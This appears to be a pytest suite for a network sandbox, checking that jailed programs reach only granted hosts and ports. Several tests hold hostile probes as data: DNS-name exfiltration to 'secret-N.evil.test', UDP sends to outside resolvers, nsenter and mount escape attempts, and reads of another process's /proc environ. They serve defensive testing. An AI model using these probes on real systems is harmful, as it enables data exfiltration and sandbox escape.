"""The network jail on a real kernel: names that are granted, and everything that is not.

Each refusal has its unconfined control and its granted twin; the "Internet" is a table onto this machine's loopback.
"""

import errno
import os
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator

import pytest
from capability import require
from children import area_of
from jailed import PYTHON, Hello, jailed, jails_work, network_policy, serving, udp_listener

from learner.jail import namespace
from learner.jail.attempts import Way

pytestmark = pytest.mark.kernel

CURL = ("curl", "-sS", "--max-time", "20")
RESET = (56, 7)
"""CURLE_RECV_ERROR, or CURLE_COULDNT_CONNECT if the reset is there before curl looks."""


@pytest.fixture(autouse=True, scope="module")
def _jails() -> None:
    require(jails_work(), "user and network namespaces with nftables")


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    with serving(Hello) as port:
        yield port


def python(*lines: str) -> tuple[str, ...]:
    return (PYTHON, "-c", "\n".join(("import socket, os, errno, time", *lines)))


def control(argv: tuple[str, ...]) -> str:
    """What a command says without a jail."""
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False)
    return done.stdout + done.stderr


def test_a_granted_name(user: int, web: int) -> None:
    require(shutil.which("curl"), "curl")
    done = jailed((*CURL, "http://api.test/x"), network_policy(("api.test", 80)), {("api.test", 80): web}, user=user)
    assert (done.out, done.status) == ("hello from api.test /x\n", 0)
    assert done.dialled == [("api.test", 80)]
    assert done.tried("api.test", 80).allowed


def test_a_name_that_is_not_granted_fails_at_once_and_never_leaves(user: int, web: int) -> None:
    require(shutil.which("curl"), "curl")
    began = time.monotonic()
    internet = {("evil.test", 80): web, ("api.test", 80): web}
    done = jailed((*CURL, "http://evil.test/"), network_policy(("api.test", 80)), internet, user=user)
    assert time.monotonic() - began < 1.5
    assert done.status == 6  # CURLE_COULDNT_RESOLVE_HOST
    assert done.dialled == []
    [refused] = [a for a in done.attempts if not a.allowed]
    assert (refused.host, refused.way, refused.program) == ("evil.test", Way.NAME, "curl")
    assert refused.pid > 1
    twin = jailed((*CURL, "http://evil.test/"), network_policy(("evil.test", 80)), internet, user=user)
    assert twin.status == 0


def test_a_port_that_is_not_granted(user: int, web: int) -> None:
    internet = {("api.test", 81): web, ("api.test", 80): web}
    done = jailed((*CURL, "http://api.test:81/"), network_policy(("api.test", 80)), internet, user=user)
    assert done.status in RESET
    assert done.dialled == []
    refused = done.tried("api.test", 81)
    assert (refused.allowed, refused.way, refused.program) == (False, Way.CONNECT, "curl")


@pytest.mark.parametrize(("literal", "url"), [("192.0.2.7", "192.0.2.7"), ("2001:db8::7", "[2001:db8::7]")])
def test_addresses_are_no_way_around_names(literal: str, url: str, user: int, web: int) -> None:
    internet = {(literal, 80): web}
    argv = (*CURL, "-g", f"http://{url}/")
    done = jailed(argv, network_policy(("api.test", 80), ("*", 80)), internet, user=user)
    assert done.status in RESET
    assert done.dialled == []
    assert not done.tried(literal, 80).allowed
    twin = jailed(argv, network_policy((literal, 80)), internet, user=user)
    assert (twin.out, twin.status) == (f"hello from {url} /\n", 0)


def test_made_up_addresses_that_nobody_was_given() -> None:
    done = jailed((*CURL, "http://198.19.1.1/"), network_policy(("*", 80)), {("198.19.1.1", 80): 1})
    assert done.status in RESET
    assert done.dialled == []


def test_a_pattern_and_a_group(user: int, web: int) -> None:
    policy = network_policy(("*.example.test", 80), ("group:npm", 80))
    internet = {("a.b.example.test", 80): web, ("registry.npmjs.org", 80): web}
    for host in ("a.b.example.test", "registry.npmjs.org"):
        assert jailed((*CURL, f"http://{host}/"), policy, internet, user=user).out == f"hello from {host} /\n"
    assert jailed((*CURL, "http://example.test/"), policy, internet, user=user).status == 6


def test_services_of_this_machine_are_reached_only_if_granted(user: int, web: int) -> None:
    argv = (*CURL, f"http://127.0.0.1:{web}/")
    assert "hello" in control(argv)
    refused = jailed(argv, network_policy(("api.test", web)), {("127.0.0.1", web): web}, user=user)
    assert refused.status == 7  # CURLE_COULDNT_CONNECT
    assert refused.dialled == []
    granted = jailed(argv, network_policy(("127.0.0.1", web)), {("127.0.0.1", web): web}, user=user)
    assert (granted.out, granted.status) == (f"hello from 127.0.0.1:{web} /\n", 0)


def test_a_granted_service_of_this_machine_over_the_real_way_out(user: int, web: int) -> None:
    done = jailed((*CURL, f"http://127.0.0.1:{web}/"), network_policy(("127.0.0.1", web)), user=user)
    assert done.status == 0, done.out
    with serving(Hello, "::1") as port:
        argv = (*CURL, "-g", f"http://[::1]:{port}/")
        assert jailed(argv, network_policy(("::1", port)), user=user).status == 0
        assert jailed(argv, network_policy(("127.0.0.1", port)), user=user).status == 7


def test_own_servers_work_inside_and_stay_inside(user: int, web: int) -> None:
    argv = python(
        "s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname())",
        "t, _ = s.accept(); c.send(b'in'); print(t.recv(9).decode())",
        f"f = socket.create_server(('127.0.0.1', {web})); d = socket.create_connection(('127.0.0.1', {web}))",
        "u, _ = f.accept(); d.send(b'fixed'); print(u.recv(9).decode())",
        "v = socket.create_server(('::1', 0), family=socket.AF_INET6)",
        "w = socket.create_connection(v.getsockname()[:2])",
        "print('six')",
    )
    # The port is taken on this machine and granted to be taken and reached: inside it is the program's own.
    policy = network_policy(("127.0.0.1", web), bind=(web,))
    assert jailed(argv, policy, {("127.0.0.1", web): web}, user=user).out == "in\nfixed\nsix\n"


def test_udp_is_refused(user: int) -> None:
    with udp_listener() as listener:
        port = listener.getsockname()[1]
        send = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        local = python(send, f"print(s.sendto(b'x', ('127.0.0.1', {port})))")
        assert control(local) == "1\n"
        assert listener.recv(9) == b"x"
        jailed(local, network_policy(("127.0.0.1", port)), {}, user=user)
        with pytest.raises(TimeoutError):
            listener.recv(9)  # it is another loopback
    away = python(send, "try: s.sendto(b'x', ('192.0.2.7', 443)); print('sent')", "except OSError as e: print(e.errno)")
    assert control(away) == "sent\n"
    assert jailed(away, network_policy(("192.0.2.7", 443)), {}, user=user).out == f"{errno.EPERM}\n"
    inside = python(
        "r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(('127.0.0.1', 0))",
        send,
        "s.sendto(b'own', r.getsockname()); print(r.recv(9).decode())",
    )
    assert jailed(inside, network_policy(), {}, user=user).out == "own\n"


def test_other_name_servers_are_not_reached(user: int) -> None:
    with udp_listener() as listener:
        port = listener.getsockname()[1]
        query = python(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
            "for h in ('8.8.8.8', '192.0.2.53', '127.0.0.1'):",
            f"    try: s.sendto(b'c2VjcmV0', (h, {port} if h == '127.0.0.1' else 53)); print('sent')",
            "    except OSError as e: print(errno.errorcode[e.errno])",
        )
        assert control(query).splitlines()[-1] == "sent"
        assert listener.recv(99) == b"c2VjcmV0"
        assert jailed(query, network_policy(("*", 443)), {}, user=user).out.split()[:2] == ["EPERM", "EPERM"]
        with pytest.raises(TimeoutError):
            listener.recv(99)


def test_secrets_in_names_go_nowhere(user: int) -> None:
    lookups = python(
        "for n in range(50):",
        "    try: socket.getaddrinfo(f'secret-{n}.evil.test', 443)",
        "    except socket.gaierror as e: last = e",
        "print(last.errno == socket.EAI_NONAME)",
        "print(len(socket.getaddrinfo('kept.granted.test', 443, type=socket.SOCK_STREAM)))",
    )
    done = jailed(lookups, network_policy(("*.granted.test", 443)), {}, user=user)
    assert done.out == "True\n1\n"
    assert done.dialled == []  # not even the granted one: it was only looked up
    assert len([a for a in done.attempts if a.way is Way.NAME and not a.allowed]) == 50


def test_hostile_dns_over_udp_and_tcp(user: int) -> None:
    argv = python(
        "conf = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]",
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "for n in range(300): u.sendto(os.urandom(n), (conf, 53))",
        "t = socket.create_connection((conf, 53)); t.send(b'\\xff\\xffabc'); t.close()",
        "print(len(socket.getaddrinfo('api.test', 80, type=socket.SOCK_STREAM)))",
        "q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3api\\4test\\0\\0\\1\\0\\1'",
        "t = socket.create_connection((conf, 53)); t.send(len(q).to_bytes(2, 'big') + q); print(t.recv(99)[-4:].hex())",
    )
    done = jailed(argv, network_policy(("api.test", 80)), {}, user=user)
    assert done.out == "1\nc6120002\n", done.out


def test_the_namespace_is_not_the_programs_to_change(user: int) -> None:
    argv = (
        "sh",
        "-c",
        "grep CapEff /proc/self/status; ip link set lo down 2>&1; ip route add default dev lo 2>&1;"
        " nsenter --net=/proc/1/ns/net true 2>&1 && echo escaped; mount -t tmpfs none /mnt 2>&1 && echo mounted",
    )
    require(shutil.which("nsenter") and shutil.which("ip"), "util-linux and iproute2")
    done = jailed(argv, network_policy(), {}, user=user)
    assert "escaped" not in done.out
    assert "mounted" not in done.out
    assert "Operation not permitted" in done.out
    held = int(done.out.split()[1], 16)
    assert held & ~0b111111011 == 0
    assert user == 0 or held == 0


def test_root_keeps_its_hold_on_files_of_others() -> None:
    require(os.getuid() == 0, "root")
    argv = ("sh", "-c", "f=$(mktemp); chown 65534:65534 $f; chmod 600 $f; cat $f && stat -c %u $f; rm $f")
    assert jailed(argv, network_policy(), {}, user=0).out == "65534\n"


def test_learning_allows_and_tells_everything(user: int, web: int) -> None:
    internet = {("a.test", 80): web, ("192.0.2.7", 8080): web, ("127.0.0.1", web): web}
    script = f"curl -sS http://a.test/ && curl -sS http://192.0.2.7:8080/ && curl -sS http://127.0.0.1:{web}/"
    done = jailed(("sh", "-c", script), network_policy(), internet, user=user, learning=True)
    assert done.status == 0, done.out
    assert done.out.count("hello") == 3
    assert sorted((a.host, a.port, a.program) for a in done.attempts if a.way is Way.CONNECT) == [
        (host, port, "curl") for host, port in sorted(internet)
    ]
    assert all(a.allowed for a in done.attempts)


def test_a_server_that_is_not_there(user: int) -> None:
    done = jailed((*CURL, "http://api.test/"), network_policy(("api.test", 80)), {}, user=user)
    assert done.status in RESET
    assert done.tried("api.test", 80).allowed


def test_bytes_arrive_whole_both_ways(user: int) -> None:
    """Half-closed connections, and more than any buffer holds."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        pid = os.fork()
        if pid == 0:
            connection, _ = server.accept()
            total = 0
            while data := connection.recv(65536):
                total += len(data)
            connection.sendall(b"%d " % total + bytes(3_000_000))
            os._exit(0)
        argv = python(
            "s = socket.create_connection(('api.test', 80))",
            "s.sendall(bytes(5_000_000)); s.shutdown(socket.SHUT_WR); time.sleep(0.2)",
            "got = b''.join(iter(lambda: s.recv(65536), b'')); print(got[:7].decode(), len(got))",
        )
        done = jailed(argv, network_policy(("api.test", 80)), {("api.test", 80): port}, user=user)
        os.waitpid(pid, 0)
    assert done.out == "5000000 3000008\n"


def test_resolvers_behind_unix_sockets_are_out_of_reach(user: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """nscd and systemd-resolved would answer, and forward, any name: the C library asks them before DNS."""
    with area_of(user) as place, socket.socket(socket.AF_UNIX) as service:
        path = f"{place}/resolver"
        service.bind(path)
        os.chmod(path, 0o666)
        service.listen()
        argv = python(f"s = socket.socket(socket.AF_UNIX); print(s.connect_ex({path!r}))")
        assert control(argv) == "0\n"
        assert jailed(argv, network_policy(), {}, user=user).out == "0\n"
        monkeypatch.setattr(namespace, "BYPASSES", (path, f"{place}/nonesuch"))
        assert jailed(argv, network_policy(), {}, user=user).out == f"{errno.ECONNREFUSED}\n"
        assert control(argv) == "0\n"


def test_outsiders_cannot_be_traced_or_entered(user: int) -> None:
    """The user namespace keeps processes of the same user apart, which Landlock does as well."""
    argv = python(
        "pid = int(os.environ['OUTSIDER'])",
        "for name in ('environ', 'root/etc', 'ns/net'):",
        "    try: os.stat(f'/proc/{pid}/{name}'); (open(f'/proc/{pid}/environ').read() if name == 'environ' else 0)",
        "    except OSError as e: print(errno.errorcode[e.errno])",
    )
    sleeper = subprocess.Popen(["sleep", "100"], user=user if user != os.getuid() else None)
    try:
        done = jailed(argv, network_policy(), {}, user=user, env={"OUTSIDER": str(sleeper.pid)})
    finally:
        sleeper.kill()
        sleeper.wait()
    assert set(done.out.split()) <= {"EACCES", "EPERM"}
    assert len(done.out.split()) == 3
